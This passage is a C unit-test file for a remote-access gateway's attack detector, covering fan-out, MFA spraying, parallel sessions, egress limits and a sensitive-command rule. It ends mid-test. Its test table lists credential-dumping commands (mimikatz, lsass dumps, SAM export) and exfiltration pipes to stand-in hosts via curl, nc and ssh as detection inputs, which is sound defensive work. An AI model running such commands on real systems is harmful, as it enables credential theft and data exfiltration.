/* SPDX-License-Identifier: BSD-2-Clause */
/* Tests for the Cloud Hopper detector: each rule at its threshold, windows sliding, restarts, bounds, the state file. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <fcntl.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <syslog.h>
#include <unistd.h>

#include "gw_detect.h"
#include "mg_err.h"
#include "mg_time.h"
#include "pol.h"

/* Monday 2026-11-23 09:00:00 UTC */
static time_t T0;
#define MIN 60
#define HOUR 3600
#define DAY 86400

/* The policy's own defaults, optionally with an alerts section. */
static struct pol *
policy(const char *alerts)
{
	struct mg_diag *dg = mg_diag_new();
	struct pol *p = NULL;
	char buf[2048];
	size_t i;

	snprintf(buf, sizeof(buf), "%s%s%s", alerts ? "alerts: {" : "", alerts ? alerts : "",
	    alerts ? "};\n" : "");
	if (pol_load_buffer(buf, strlen(buf), "test.conf", &p, dg) != 0) {
		for (i = 0; i < mg_diag_count(dg); i++)
			fprintf(stderr, "%s\n", mg_diag_get(dg, i));
		fail();
	}
	mg_diag_free(dg);
	return p;
}

static struct gw_detect *
detector(const char *alerts)
{
	struct pol *p = policy(alerts);
	struct gw_detect *d = NULL;
	char err[256];

	assert_int_equal(gw_detect_new(&p->alerts, &d, err, sizeof(err)), 0);
	pol_free(p);
	return d;
}

static int
attempt(struct gw_detect *d, const char *eng, const char *tenant, const char *target,
    const char *src, struct gw_detect_result *res)
{
	struct gw_detect_event ev = { .kind = GW_DETECT_ATTEMPT, .engineer = eng,
	    .tenant = tenant, .target = target, .source = src, .allowed = 1 };

	assert_int_equal(gw_detect_event(d, &ev, res), 0);
	return (int)res->action;
}

static void
start(struct gw_detect *d, const char *eng, const char *tenant, const char *target,
    const char *src, const char *sid)
{
	struct gw_detect_event ev = { .kind = GW_DETECT_START, .engineer = eng,
	    .tenant = tenant, .target = target, .source = src, .session = sid };
	struct gw_detect_result res;

	assert_int_equal(gw_detect_event(d, &ev, &res), 0);
	assert_int_equal(res.action, GW_DETECT_NONE);
}

static void
end(struct gw_detect *d, const char *eng, const char *sid, uint64_t bytes)
{
	struct gw_detect_event ev = { .kind = GW_DETECT_END, .engineer = eng,
	    .session = sid, .bytes_out = bytes };
	struct gw_detect_result res;

	assert_int_equal(gw_detect_event(d, &ev, &res), 0);
}

/* The hit for a rule in res, or NULL. */
static const struct gw_detect_hit *
find(const struct gw_detect_result *res, enum gw_detect_rule r)
{
	size_t i;

	for (i = 0; i < res->nhits; i++)
		if (res->hits[i].rule == r)
			return &res->hits[i];
	return NULL;
}

/* ---- fan-out ---- */

static void
test_fanout(void **state)
{
	/* One engineer, one session per row; what the gateway is told before each. */
	static const struct {
		int64_t at;		/* seconds after T0 */
		const char *tenant;
		int want;		/* action */
		int started;		/* the gateway let it through */
	} rows[] = {
		{ 0, "acme", GW_DETECT_NONE, 1 },
		{ 5 * MIN, "globex", GW_DETECT_NONE, 1 },
		{ 10 * MIN, "initech", GW_DETECT_DENY, 0 },	/* the 3rd: refused */
		{ 11 * MIN, "umbrella", GW_DETECT_DENY, 0 },	/* still 3 with it */
		{ 12 * MIN, "acme", GW_DETECT_NONE, 1 },	/* already reached: fine */
		{ 12 * MIN + 1, "initech", GW_DETECT_DENY, 0 },	/* retry: refused again */
		/* acme's last session was at 12m: globex (5m) leaves the window at 35m */
		{ 34 * MIN + 59, "initech", GW_DETECT_DENY, 0 },
		{ 35 * MIN, "initech", GW_DETECT_NONE, 1 },	/* the window slid */
		{ 36 * MIN, "hooli", GW_DETECT_DENY, 0 },	/* acme, initech, hooli */
	};
	struct gw_detect *d = detector("fanout = { tenants = 3; within = \"30m\"; "
	    "action = \"deny\"; }; first_access = { action = \"off\"; };");
	struct gw_detect_result res;
	const struct gw_detect_hit *h;
	char sid[32];
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		mg_clock_set(T0 + rows[i].at);
		attempt(d, "alice", rows[i].tenant, "web01", "192.0.2.10", &res);
		if ((int)res.action != rows[i].want)
			fail_msg("row %zu (%s): action %s, want %s", i, rows[i].tenant,
			    gw_detect_action_name(res.action),
			    gw_detect_action_name((enum gw_detect_action)rows[i].want));
		if (rows[i].want == GW_DETECT_DENY) {
			assert_non_null(h = find(&res, GW_DETECT_FANOUT));
			assert_int_equal(h->severity, LOG_ALERT);
			assert_non_null(strstr(h->evidence, "3 distinct tenants within 30m"));
			assert_non_null(strstr(h->evidence, rows[i].tenant));
		}
		if (rows[i].started) {
			snprintf(sid, sizeof(sid), "s%zu", i);
			start(d, "alice", rows[i].tenant, "web01", "192.0.2.10", sid);
			end(d, "alice", sid, 0);
		}
	}
	/* Another engineer is not affected by alice's history. */
	assert_int_equal(attempt(d, "bob", "hooli", "web01", "192.0.2.11", &res),
	    GW_DETECT_NONE);
	gw_detect_free(d);
	mg_clock_reset();
}

/* Alert-only: the 3rd tenant alerts once, the same again within the window is quiet. */
static void
test_fanout_alert_once(void **state)
{
	struct gw_detect *d = detector("first_access = { action = \"off\"; };");
	struct gw_detect_result res;

	(void)state;
	mg_clock_set(T0);
	start(d, "alice", "acme", "web01", "192.0.2.10", "s1");
	start(d, "alice", "globex", "web01", "192.0.2.10", "s2");
	assert_int_equal(attempt(d, "alice", "acme", "web02", "192.0.2.10", &res),
	    GW_DETECT_NONE);
	assert_int_equal(attempt(d, "alice", "initech", "web01", "192.0.2.10", &res),
	    GW_DETECT_ALERT);
	assert_int_equal(res.nhits, 1);
	assert_int_equal(res.hits[0].rule, GW_DETECT_FANOUT);
	start(d, "alice", "initech", "web01", "192.0.2.10", "s3");
	assert_int_equal(attempt(d, "alice", "initech", "web01", "192.0.2.10", &res),
	    GW_DETECT_NONE);
	assert_int_equal(res.suppressed, 1);
	/* A 4th tenant is news: alerted. */
	assert_int_equal(attempt(d, "alice", "hooli", "web01", "192.0.2.10", &res),
	    GW_DETECT_ALERT);
	assert_non_null(strstr(res.hits[0].evidence, "4 distinct tenants"));
	gw_detect_free(d);
	mg_clock_reset();
}

/* ---- another gateway's events (gw_detect_remote) ---- */

static int mfa_fail(struct gw_detect *d, const char *eng, const char *src,
    struct gw_detect_result *res);

static void
remote(struct gw_detect *d, enum gw_detect_kind kind, const char *eng, const char *tenant,
    const char *target, const char *src, time_t when)
{
	struct gw_detect_event ev = { .kind = kind, .engineer = eng, .tenant = tenant,
	    .target = target, .source = src };

	assert_int_equal(gw_detect_remote(d, &ev, when), 0);
}

static void
test_remote(void **state)
{
	struct gw_detect *d = detector("fanout = { tenants = 3; within = \"30m\"; "
	    "action = \"deny\"; }; first_access = { days = 90; action = \"alert\"; }; "
	    "mfa_failures = { failures = 3; within = \"10m\"; action = \"deny\"; }; "
	    "parallel = { action = \"deny\"; };");
	struct gw_detect_event bad = { .kind = GW_DETECT_START, .engineer = "alice",
	    .tenant = "acme", .target = "web01", .source = "not-an-address" };
	struct gw_detect_stats st, st2;
	struct gw_detect_result res;

	(void)state;
	mg_clock_set(T0);
	/* Fan-out split between gateways: acme here, globex there, initech here. */
	assert_int_equal(attempt(d, "alice", "acme", "web01", "192.0.2.10", &res),
	    GW_DETECT_ALERT);	/* first access */
	start(d, "alice", "acme", "web01", "192.0.2.10", "s1");
	/* A remote START is history only: no verdict, no hit, at its own time. */
	remote(d, GW_DETECT_START, "alice", "globex", "db01", "203.0.113.50", T0 - 5 * MIN);
	assert_int_equal(gw_detect_dirty(d), 1);
	/* first_access: globex/db01 was reached (on the other gateway) */
	assert_int_equal(attempt(d, "alice", "globex", "db01", "192.0.2.10", &res),
	    GW_DETECT_NONE);
	assert_int_equal(attempt(d, "alice", "initech", "web01", "192.0.2.10", &res),
	    GW_DETECT_DENY);
	assert_non_null(strstr(find(&res, GW_DETECT_FANOUT)->evidence,
	    "3 distinct tenants within 30m"));
	/* Not a live session here: parallel use is judged from this gateway's alone. */
	assert_null(find(&res, GW_DETECT_PARALLEL));
	/* Its own time: 30 minutes after it (T0 - 5m) globex has left the window. */
	mg_clock_set(T0 + 25 * MIN - 1);
	assert_int_equal(attempt(d, "alice", "initech", "web01", "192.0.2.10", &res),
	    GW_DETECT_DENY);
	mg_clock_set(T0 + 25 * MIN);
	assert_int_equal(attempt(d, "alice", "initech", "web01", "192.0.2.10", &res),
	    GW_DETECT_NONE);	/* its first access was said at T0 */
	assert_null(find(&res, GW_DETECT_FANOUT));
	/* An older event never makes a newer entry look older: acme stays at T0. */
	remote(d, GW_DETECT_START, "alice", "acme", "web01", NULL, T0 - DAY);
	remote(d, GW_DETECT_START, "alice", "globex", "db02", NULL, T0 + 25 * MIN - 10);
	assert_int_equal(attempt(d, "alice", "initech", "web01", "192.0.2.10", &res),
	    GW_DETECT_DENY);
	/* Older than every window it looks back: ignored, not even a name kept. */
	gw_detect_stats(d, &st);
	remote(d, GW_DETECT_START, "bob", "hooli", "web01", NULL, T0 - 200 * DAY);
	gw_detect_stats(d, &st2);
	assert_int_equal(st2.engineers, st.engineers);
	assert_int_equal(st2.live, 1);	/* s1 alone: remote sessions are not live here */
	/* MFA failures on the other gateway count here, without an alert of their own. */
	mg_clock_set(T0 + DAY);
	remote(d, GW_DETECT_MFA_FAILURE, "carol", NULL, NULL, "198.51.100.3", T0 + DAY - MIN);
	remote(d, GW_DETECT_MFA_FAILURE, "carol", NULL, NULL, "198.51.100.3", T0 + DAY);
	remote(d, GW_DETECT_MFA_FAILURE, "carol", NULL, NULL, "198.51.100.3", T0 + DAY - HOUR);
	assert_int_equal(mfa_fail(d, "carol", "198.51.100.3", &res), GW_DETECT_DENY);
	assert_non_null(strstr(find(&res, GW_DETECT_MFA_FAILURES)->evidence,
	    "3 MFA failures for this engineer"));
	/* Refused: a bad address, a bad name, a kind it does not take. */
	assert_int_equal(gw_detect_remote(d, &bad, T0), MG_ERR_INVAL);
	bad.source = NULL;
	bad.tenant = "no/such";
	assert_int_equal(gw_detect_remote(d, &bad, T0), MG_ERR_INVAL);
	bad.tenant = "acme";
	bad.kind = GW_DETECT_ATTEMPT;
	assert_int_equal(gw_detect_remote(d, &bad, T0), MG_ERR_INVAL);
	bad.kind = GW_DETECT_START;
	assert_int_equal(gw_detect_remote(d, &bad, 0), MG_ERR_INVAL);
	assert_int_equal(gw_detect_remote(NULL, &bad, T0), MG_ERR_INVAL);
	gw_detect_free(d);
	mg_clock_reset();
}

/* ---- first access ---- */

static void
test_first_access(void **state)
{
	struct gw_detect *d = detector("fanout = { action = \"off\"; }; "
	    "first_access = { days = 90; action = \"reauth\"; };");
	struct gw_detect_result res;
	const struct gw_detect_hit *h;

	(void)state;
	mg_clock_set(T0);
	assert_int_equal(attempt(d, "alice", "acme", "web01", "192.0.2.10", &res),
	    GW_DETECT_REAUTH);
	assert_non_null(h = find(&res, GW_DETECT_FIRST_ACCESS));
	assert_non_null(strstr(h->evidence, "tenant acme not reached"));
	/* reauth failed: no START; asked again */
	assert_int_equal(attempt(d, "alice", "acme", "web01", "192.0.2.10", &res),
	    GW_DETECT_REAUTH);
	start(d, "alice", "acme", "web01", "192.0.2.10", "s1");
	end(d, "alice", "s1", 0);
	assert_int_equal(attempt(d, "alice", "acme", "web01", "192.0.2.10", &res),
	    GW_DETECT_NONE);
	/* a new target of a known tenant */
	assert_int_equal(attempt(d, "alice", "acme", "db01", "192.0.2.10", &res),
	    GW_DETECT_REAUTH);
	assert_non_null(strstr(res.hits[0].evidence, "target acme/db01"));
	/* 90 days later, to the second, it is "first" again */
	mg_clock_set(T0 + 90 * DAY - 1);
	assert_int_equal(attempt(d, "alice", "acme", "web01", "192.0.2.10", &res),
	    GW_DETECT_NONE);
	mg_clock_set(T0 + 90 * DAY);
	assert_int_equal(attempt(d, "alice", "acme", "web01", "192.0.2.10", &res),
	    GW_DETECT_REAUTH);
	gw_detect_free(d);
	mg_clock_reset();
}

/* ---- off hours ---- */

static void
off_attempt(struct gw_detect *d, const char *eng, struct gw_detect_result *res)
{
	struct gw_detect_event ev = { .kind = GW_DETECT_ATTEMPT, .engineer = eng,
	    .tenant = "acme", .target = "web01", .source = "192.0.2.10", .allowed = 0,
	    .refusal = GW_DETECT_REFUSED_WINDOW };

	assert_int_equal(gw_detect_event(d, &ev, res), 0);
}

static void
test_off_hours(void **state)
{
	static const struct {
		int64_t at;
		int window;	/* refused for the window (else for another reason) */
		int want;
	} rows[] = {
		{ 0, 1, GW_DETECT_NONE },
		{ 10 * MIN, 0, GW_DETECT_NONE },	/* other refusals do not count */
		{ 20 * MIN, 1, GW_DETECT_NONE },
		{ 30 * MIN, 1, GW_DETECT_DENY },	/* 3rd within 1h */
		{ 60 * MIN, 1, GW_DETECT_DENY },	/* 0 left: 20m, 30m, 60m */
		{ 140 * MIN, 1, GW_DETECT_NONE },	/* the window slid: 1 */
	};
	struct gw_detect *d = detector("off_hours = { attempts = 3; within = \"1h\"; "
	    "action = \"deny\"; };");
	struct gw_detect_result res;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct gw_detect_event ev = { .kind = GW_DETECT_ATTEMPT, .engineer = "alice",
		    .tenant = "acme", .target = "web01", .source = "192.0.2.10",
		    .refusal = rows[i].window ? GW_DETECT_REFUSED_WINDOW :
		    GW_DETECT_REFUSED_OTHER };

		mg_clock_set(T0 + rows[i].at);
		assert_int_equal(gw_detect_event(d, &ev, &res), 0);
		if ((int)res.action != rows[i].want)
			fail_msg("row %zu: %s", i, gw_detect_action_name(res.action));
	}
	/* Pressure gates an allowed attempt too while it lasts (action deny). */
	mg_clock_set(T0 + 141 * MIN);
	off_attempt(d, "alice", &res);
	off_attempt(d, "alice", &res);
	assert_int_equal(res.action, GW_DETECT_DENY);
	assert_non_null(strstr(res.hits[0].evidence, "3 attempts outside"));
	mg_clock_set(T0 + 142 * MIN);
	attempt(d, "alice", "acme", "web01", "192.0.2.10", &res);
	assert_non_null(find(&res, GW_DETECT_OFF_HOURS));
	assert_int_equal(res.action, GW_DETECT_DENY);
	gw_detect_free(d);
	mg_clock_reset();
}

/* ---- MFA failures ---- */

static int
mfa_fail(struct gw_detect *d, const char *eng, const char *src, struct gw_detect_result *res)
{
	struct gw_detect_event ev = { .kind = GW_DETECT_MFA_FAILURE, .engineer = eng,
	    .source = src };

	assert_int_equal(gw_detect_event(d, &ev, res), 0);
	return (int)res->action;
}

static void
test_mfa_failures(void **state)
{
	struct gw_detect *d = detector("mfa_failures = { failures = 5; within = \"10m\"; };");
	struct gw_detect_result res;
	const struct gw_detect_hit *h;
	int i;

	(void)state;
	/* one engineer: 4 in 10 minutes is quiet, the 5th alerts */
	for (i = 0; i < 4; i++) {
		mg_clock_set(T0 + i * 2 * MIN);
		assert_int_equal(mfa_fail(d, "alice", "192.0.2.10", &res), GW_DETECT_NONE);
	}
	mg_clock_set(T0 + 9 * MIN);
	assert_int_equal(mfa_fail(d, "alice", "192.0.2.10", &res), GW_DETECT_ALERT);
	assert_non_null(h = find(&res, GW_DETECT_MFA_FAILURES));
	assert_non_null(strstr(h->evidence, "5 MFA failures for this engineer within 10m"));
	/* sliding: 4 at 0..6m, one at 9m; at 10m the first left: 5 again with a new one */
	/* and the repeat inside the window is one alert, not one per failure */
	mg_clock_set(T0 + 10 * MIN);
	assert_int_equal(mfa_fail(d, "alice", "192.0.2.10", &res), GW_DETECT_NONE);
	assert_int_equal(res.suppressed, 1);

	/* spraying: one source, five names, one failure each */
	mg_clock_set(T0 + DAY);
	{
		static const char *const names[] = { "u1", "u2", "u3", "u4", "u5" };

		for (i = 0; i < 4; i++)
			assert_int_equal(mfa_fail(d, names[i], "203.0.113.9", &res),
			    GW_DETECT_NONE);
		assert_int_equal(mfa_fail(d, names[4], "203.0.113.9", &res), GW_DETECT_ALERT);
		assert_non_null(h = find(&res, GW_DETECT_MFA_FAILURES));
		assert_int_equal(h->severity, LOG_ALERT);
		assert_non_null(strstr(h->evidence, "from source 203.0.113.9 for 5 engineers"));
	}
	/* a name that is not a valid engineer still counts against its source */
	mg_clock_set(T0 + 2 * DAY);
	for (i = 0; i < 4; i++)
		mfa_fail(d, i % 2 ? "root;x" : "admin\x1b[2J", "198.51.100.1", &res);
	assert_int_equal(mfa_fail(d, "alice", "198.51.100.1", &res), GW_DETECT_ALERT);
	assert_non_null(h = find(&res, GW_DETECT_MFA_FAILURES));
	assert_null(strchr(h->evidence, '\x1b'));
	gw_detect_free(d);
	mg_clock_reset();
}

static void
test_mfa_gates_attempts(void **state)
{
	struct gw_detect *d = detector("mfa_failures = { failures = 3; within = \"10m\"; "
	    "action = \"deny\"; }; first_access = { action = \"off\"; };");
	struct gw_detect_result res;

	(void)state;
	mg_clock_set(T0);
	mfa_fail(d, "alice", "192.0.2.10", &res);
	mfa_fail(d, "alice", "192.0.2.10", &res);
	assert_int_equal(attempt(d, "alice", "acme", "web01", "192.0.2.10", &res),
	    GW_DETECT_NONE);
	assert_int_equal(mfa_fail(d, "alice", "192.0.2.10", &res), GW_DETECT_DENY);
	assert_int_equal(attempt(d, "alice", "acme", "web01", "192.0.2.10", &res),
	    GW_DETECT_DENY);
	mg_clock_set(T0 + 10 * MIN);
	assert_int_equal(attempt(d, "alice", "acme", "web01", "192.0.2.10", &res),
	    GW_DETECT_NONE);
	gw_detect_free(d);
	mg_clock_reset();
}

/* ---- unusual time or source ---- */

static void
test_unusual(void **state)
{
	struct gw_detect *d = detector("fanout = { action = \"off\"; }; "
	    "first_access = { action = \"off\"; }; parallel = { action = \"off\"; };");
	struct gw_detect_result res;
	const struct gw_detect_hit *h;
	char sid[32];
	int i;

	(void)state;
	/* A new engineer at 03:00 from anywhere: no history, no verdict. */
	mg_clock_set(T0 - 6 * HOUR);
	assert_int_equal(attempt(d, "alice", "acme", "web01", "203.0.113.5", &res),
	    GW_DETECT_NONE);
	/* Two weeks of 09:00-ish sessions from 192.0.2.0/24, weekdays. */
	for (i = 0; i < 12; i++) {
		mg_clock_set(T0 + (int64_t)(i / 5) * 7 * DAY + (i % 5) * DAY);
		snprintf(sid, sizeof(sid), "h%d", i);
		start(d, "alice", "acme", "web01", i % 2 ? "192.0.2.10" : "192.0.2.99", sid);
		end(d, "alice", sid, 0);
		/* not enough days or sessions yet: quiet even at an odd hour */
		if (i < 9) {
			mg_clock_set(T0 + (int64_t)(i / 5) * 7 * DAY + (i % 5) * DAY + 15 * HOUR);
			assert_int_equal(attempt(d, "alice", "acme", "web01", "203.0.113.5",
			    &res), GW_DETECT_NONE);
		}
	}
	/* Friday of the third week. */
	{
		time_t fri = T0 + 2 * 7 * DAY + 4 * DAY;

		mg_clock_set(fri + 30 * MIN);	/* 09:30, same net: usual */
		assert_int_equal(attempt(d, "alice", "acme", "web01", "192.0.2.200", &res),
		    GW_DETECT_NONE);
		mg_clock_set(fri + HOUR);	/* 10:00: next to 09:00, usual */
		assert_int_equal(attempt(d, "alice", "acme", "web01", "192.0.2.200", &res),
		    GW_DETECT_NONE);
		mg_clock_set(fri - 6 * HOUR);	/* 03:00 */
		assert_int_equal(attempt(d, "alice", "acme", "web01", "192.0.2.200", &res),
		    GW_DETECT_ALERT);
		assert_non_null(h = find(&res, GW_DETECT_UNUSUAL));
		assert_non_null(strstr(h->evidence, "time Fri 03:00 UTC"));
		assert_null(strstr(h->evidence, "network"));
		mg_clock_set(fri + 5 * MIN);	/* usual hour, new network */
		assert_int_equal(attempt(d, "alice", "acme", "web01", "198.51.100.7", &res),
		    GW_DETECT_ALERT);
		assert_non_null(h = find(&res, GW_DETECT_UNUSUAL));
		assert_non_null(strstr(h->evidence, "source network 198.51.100.0/24"));
		/* IPv4-mapped IPv6 is the same network */
		mg_clock_set(fri + 6 * MIN);
		assert_int_equal(attempt(d, "alice", "acme", "web01", "::ffff:192.0.2.1", &res),
		    GW_DETECT_NONE);
		/* IPv6: /48 */
		mg_clock_set(fri + 7 * MIN);
		start(d, "alice", "acme", "web01", "2001:db8:1:2::5", "v6");
		end(d, "alice", "v6", 0);
		assert_int_equal(attempt(d, "alice", "acme", "web01", "2001:db8:1:ffff::9", &res),
		    GW_DETECT_NONE);
		assert_int_equal(attempt(d, "alice", "acme", "web01", "2001:db8:2::9", &res),
		    GW_DETECT_ALERT);
		assert_non_null(strstr(res.hits[0].evidence, "2001:db8:2::/48"));
		/* history older than 30 days is forgotten: no verdict (too little) */
		mg_clock_set(fri + 31 * DAY);
		assert_int_equal(attempt(d, "alice", "acme", "web01", "198.51.100.7", &res),
		    GW_DETECT_NONE);
	}
	gw_detect_free(d);
	mg_clock_reset();
}

/* ---- parallel use ---- */

static void
test_parallel(void **state)
{
	struct gw_detect *d = detector("parallel = { action = \"deny\"; }; "
	    "first_access = { action = \"off\"; };");
	struct gw_detect_result res;
	const struct gw_detect_hit *h;

	(void)state;
	mg_clock_set(T0);
	start(d, "alice", "acme", "web01", "192.0.2.10", "s1");
	/* same source: a second terminal, fine */
	assert_int_equal(attempt(d, "alice", "acme", "web02", "192.0.2.10", &res),
	    GW_DETECT_NONE);
	assert_int_equal(attempt(d, "alice", "acme", "web02", "198.51.100.7", &res),
	    GW_DETECT_DENY);
	assert_non_null(h = find(&res, GW_DETECT_PARALLEL));
	assert_non_null(strstr(h->evidence, "while session s1 from 192.0.2.10 is live"));
	/* bob is someone else */
	assert_int_equal(attempt(d, "bob", "acme", "web02", "198.51.100.7", &res),
	    GW_DETECT_NONE);
	end(d, "alice", "s1", 0);
	assert_int_equal(attempt(d, "alice", "acme", "web02", "198.51.100.7", &res),
	    GW_DETECT_NONE);
	/* a live entry whose END was lost expires */
	start(d, "alice", "acme", "web01", "192.0.2.10", "s2");
	mg_clock_set(T0 + GW_DETECT_LIVE_MAX_AGE);
	assert_int_equal(attempt(d, "alice", "acme", "web02", "198.51.100.7", &res),
	    GW_DETECT_NONE);
	/* and the gateway can say none survived a restart */
	start(d, "alice", "acme", "web01", "192.0.2.10", "s3");
	gw_detect_sessions_clear(d);
	assert_int_equal(attempt(d, "alice", "acme", "web02", "198.51.100.7", &res),
	    GW_DETECT_NONE);
	gw_detect_free(d);
	mg_clock_reset();
}

/* The other gateways' live sessions count for parallel use (issue 17). */
static void
test_parallel_peers(void **state)
{
	struct gw_detect *d = detector("parallel = { action = \"deny\"; }; "
	    "first_access = { action = \"off\"; };");
	struct gw_detect_peer p[] = {
		{ "gw-b", "b-7", "alice", "192.0.2.10" },
		{ "gw-b", "b-8", "carol", NULL },	/* source not known: never a match */
		{ "gw b", "b-9", "alice", "203.0.113.9" },	/* unclean gateway: left out */
		{ "gw-b", "b 10", "alice", "203.0.113.9" },	/* unclean id */
		{ "gw-b", "b-11", "Alice!", "203.0.113.9" },	/* not an engineer's name */
		{ "gw-b", "b-12", "alice", "not-an-address" },
	};
	struct gw_detect_result res;
	const struct gw_detect_hit *h;

	(void)state;
	mg_clock_set(T0);
	assert_int_equal(gw_detect_peers_set(d, p, 6), 4);
	/* the same source as the other gateway's session: a second terminal */
	assert_int_equal(attempt(d, "alice", "acme", "web02", "192.0.2.10", &res),
	    GW_DETECT_NONE);
	assert_int_equal(attempt(d, "carol", "acme", "web02", "198.51.100.7", &res),
	    GW_DETECT_NONE);
	assert_int_equal(attempt(d, "alice", "acme", "web02", "198.51.100.7", &res),
	    GW_DETECT_DENY);
	assert_non_null(h = find(&res, GW_DETECT_PARALLEL));
	assert_non_null(strstr(h->evidence,
	    "while session b-7 from 192.0.2.10 is live on gateway gw-b"));
	/* That session ended there: the next set does not hold it. */
	assert_int_equal(gw_detect_peers_set(d, p + 1, 1), 0);
	assert_int_equal(attempt(d, "alice", "acme", "web02", "198.51.100.8", &res),
	    GW_DETECT_NONE);
	/* and the database gone: nothing known of the others */
	assert_int_equal(gw_detect_peers_set(d, p, 1), 0);
	assert_int_equal(gw_detect_peers_set(d, NULL, 0), 0);
	assert_int_equal(attempt(d, "alice", "acme", "web02", "198.51.100.9", &res),
	    GW_DETECT_NONE);
	gw_detect_free(d);
	mg_clock_reset();
}

/* ---- egress ---- */

static int
bytes(struct gw_detect *d, const char *sid, uint64_t b, struct gw_detect_result *res)
{
	struct gw_detect_event ev = { .kind = GW_DETECT_BYTES, .engineer = "alice",
	    .session = sid, .bytes_out = b };

	assert_int_equal(gw_detect_event(d, &ev, res), 0);
	return (int)res->action;
}

static void
test_egress(void **state)
{
	struct gw_detect *d = detector("egress = { per_session = \"100M\"; per_day = \"250M\"; "
	    "action = \"deny\"; }; first_access = { action = \"off\"; };");
	struct gw_detect_result res;
	const uint64_t M = 1024 * 1024;

	(void)state;
	mg_clock_set(T0);
	start(d, "alice", "acme", "web01", "192.0.2.10", "s1");
	assert_int_equal(bytes(d, "s1", 100 * M - 1, &res), GW_DETECT_NONE);
	assert_int_equal(bytes(d, "s1", 100 * M, &res), GW_DETECT_DENY);
	assert_non_null(strstr(res.hits[0].evidence, "session s1 sent 100.0M"));
	end(d, "alice", "s1", 100 * M);
	/* per day: 100M + 90M + 60M = 250M across sessions */
	mg_clock_set(T0 + HOUR);
	start(d, "alice", "acme", "web01", "192.0.2.10", "s2");
	assert_int_equal(bytes(d, "s2", 90 * M, &res), GW_DETECT_NONE);
	end(d, "alice", "s2", 90 * M);
	mg_clock_set(T0 + 2 * HOUR);
	start(d, "alice", "acme", "web01", "192.0.2.10", "s3");
	assert_int_equal(bytes(d, "s3", 59 * M, &res), GW_DETECT_NONE);
	assert_int_equal(bytes(d, "s3", 60 * M, &res), GW_DETECT_DENY);
	assert_non_null(strstr(res.hits[0].evidence, "in the last 24h (per_day 250.0M"));
	end(d, "alice", "s3", 60 * M);
	/* over the daily limit, new sessions are refused too (action deny) */
	assert_int_equal(attempt(d, "alice", "acme", "web01", "192.0.2.10", &res),
	    GW_DETECT_DENY);
	/* rolling 24 hours: the first 100M leave at T0 + 24h */
	mg_clock_set(T0 + 24 * HOUR);
	assert_int_equal(attempt(d, "alice", "acme", "web01", "192.0.2.10", &res),
	    GW_DETECT_NONE);
	gw_detect_free(d);
	mg_clock_reset();
}

/* ---- sensitive commands ---- */

static int
text(struct gw_detect *d, enum gw_detect_kind k, const char *sid, const char *t, size_t len,
    struct gw_detect_result *res)
{
	struct gw_detect_event ev = { .kind = k, .engineer = "alice", .session = sid,
	    .text = t, .text_len = len };

	assert_int_equal(gw_detect_event(d, &ev, res), 0);
	return (int)res->action;
}

static void
test_sensitive_defaults(void **state)
{
	static const struct {
		const char *line;
		int hit;
		const char *what;
	} rows[] = {
		{ "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\"", 1,
		    "credential dumping" },
		{ "C:\\Tools\\MIMIKATZ.EXE", 1, "credential dumping" },
		{ "procdump64.exe -accepteula -ma lsass.exe out.dmp", 1, "credential dumping" },
		{ "procdump -ma 1234 notepad.dmp", 0, NULL },
		{ "python3 secretsdump.py corp/admin@10.0.0.5", 1, "credential dumping" },
		{ "ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\temp\" q q", 1,
		    "credential dumping" },
		{ "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full", 1,
		    "credential dumping" },
		{ "reg save HKLM\\SAM sam.hiv", 1, "credential dumping" },
		{ "vssadmin create shadow /for=C:", 1, "shadow copy" },
		{ "vssadmin list shadows", 0, NULL },
		{ "wmic shadowcopy call create Volume='C:\\'", 1, "shadow copy" },
		{ "tar czf - /srv/data | curl -T - https://x.example/u", 1,
		    "archive and exfiltrate" },
		{ "zip -r - /home | nc 203.0.113.9 443", 1, "archive and exfiltrate" },
		{ "7z a -so x.7z /data | ssh evil@203.0.113.9 'cat > x'", 1,
		    "archive and exfiltrate" },
		{ "tar czf backup.tgz /etc", 0, NULL },
		{ "starfish | curl http://x", 0, NULL },
		{ "tar tvf x.tar | less", 0, NULL },
		{ "rclone copy /data remote:bucket", 1, "cloud sync" },
		{ "azcopy copy '/data/*' 'https://acct.blob.core.windows.net/c'", 1, "cloud sync" },
		{ "mega-put secrets.zip /", 1, "cloud sync" },
		{ "megacmd", 1, "cloud sync" },
		{ "ls -la /var/log", 0, NULL },
		{ "systemctl restart nginx", 0, NULL },
		{ "cat rclone.conf.example", 1, "cloud sync" },
	};
	struct gw_detect *d = detector(NULL);
	struct gw_detect_result res;
	char sid[16];
	size_t i;

	(void)state;
	mg_clock_set(T0);
	for (i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		snprintf(sid, sizeof(sid), "c%zu", i);
		text(d, i % 2 ? GW_DETECT_COMMAND : GW_DETECT_INPUT, sid, rows[i].line,
		    strlen(rows[i].line), &res);
		if ((res.action != GW_DETECT_NONE) != rows[i].hit)
			fail_msg("row %zu \"%s\": %s", i, rows[i].line,
			    gw_detect_action_name(res.action));
		if (rows[i].hit) {
			assert_int_equal(res.hits[0].rule, GW_DETECT_SENSITIVE);
			assert_non_null(strstr(res.hits[0].evidence, rows[i].what));
			assert_non_null(strstr(res.hits[0].evidence, sid));
		}
	}
	/* hidden behind a NUL, behind 100 KiB of padding, or with escapes */
	{
		static const char nul[] = "echo hi\0mimikatz";
		char *big = malloc(100 * 1024 + 16);

		assert_int_equal(text(d, GW_DETECT_INPUT, "n1", nul, sizeof(nul) - 1, &res),
		    GW_DETECT_ALERT);
		assert_non_null(big);
		memset(big, ' ', 100 * 1024);
		memcpy(big + 100 * 1024, "rclone sync / r:", 16);
		assert_int_equal(text(d, GW_DETECT_INPUT, "n2", big, 100 * 1024 + 16, &res),
		    GW_DETECT_ALERT);
		free(big);
		assert_int_equal(text(d, GW_DETECT_INPUT, "n3", "\x1b]0;x\x07mimikatz\"\n", 17,
		    &res), GW_DETECT_ALERT);
		assert_null(strchr(res.hits[0].evidence, '\x1b'));
